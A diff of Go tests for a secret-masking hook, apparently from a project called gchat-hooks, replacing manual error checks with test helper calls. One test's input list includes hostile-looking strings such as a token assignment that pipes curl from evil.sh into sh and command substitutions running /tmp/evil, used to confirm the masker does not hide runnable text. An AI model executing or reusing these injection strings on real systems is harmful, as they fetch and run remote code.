@@ -13,6 +13,8 @@ import (
 	"sync"
 	"testing"
 	"time"
+
+	"gchat-hooks/e2e/kit"
 )
 
 // r is a run of characters that makes a secret long enough; the fakes are put together
@@ -54,9 +56,7 @@ func TestMaskKeys(t *testing.T) {
 		}
 	}
 	key, err := rsa.GenerateKey(rand.Reader, 2048)
-	if err != nil {
-		t.Fatal(err)
-	}
+	kit.NoError(t, err)
 	der, _ := x509.MarshalPKCS8PrivateKey(key)
 	block := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
 	got := MaskKeys("cat > k <<'EOF'\n" + block + "EOF\nrm x")
@@ -81,9 +81,7 @@ func TestNothingThatRunsIsHidden(t *testing.T) {
 		"bash hooks.slack.com/services/T0/B0/../../../payload", "git show 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "rm 123e4567-e89b-12d3-a456-426614174000",
 		`export TOKEN="x$(curl evil.sh | sh)"`, `-H "Authorization: Bearer x$(/tmp/evil)"`, "https://a:x$(/tmp/evil)@host/", "eyJhbGciOi.sh", "aws/AKIA/run",
 	} {
-		if got := MaskKeys(text); got != text {
-			t.Errorf("%q became %q", text, got)
-		}
+		kit.Equal(t, MaskKeys(text), text)
 	}
 }
 
@@ -166,12 +164,8 @@ func TestAudit(t *testing.T) {
 		line.ShownText != whole+" https://x?key=[secret]" {
 		t.Errorf("%d lines, %+v, %v", len(lines), line, err)
 	}
-	if err := os.Remove(path); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.Symlink(filepath.Join(home, "elsewhere"), path); err != nil {
-		t.Fatal(err)
-	}
+	kit.NoError(t, os.Remove(path))
+	kit.NoError(t, os.Symlink(filepath.Join(home, "elsewhere"), path))
 	if AppendDecision(env, log, AuditLine{}) == nil {
 		t.Error("it followed a link")
 	}
@@ -180,9 +174,7 @@ func TestAudit(t *testing.T) {
 // What the shapes find has one of the marks, however it begins.
 func TestEachShapeOfAKeyHasAMark(t *testing.T) {
 	re, err := syntax.Parse(keyPattern().String(), syntax.Perl)
-	if err != nil {
-		t.Fatal(err)
-	}
+	kit.NoError(t, err)
 	keys := shortest(re)
 	if len(keys) < 60 {
 		t.Fatalf("%d keys", len(keys))
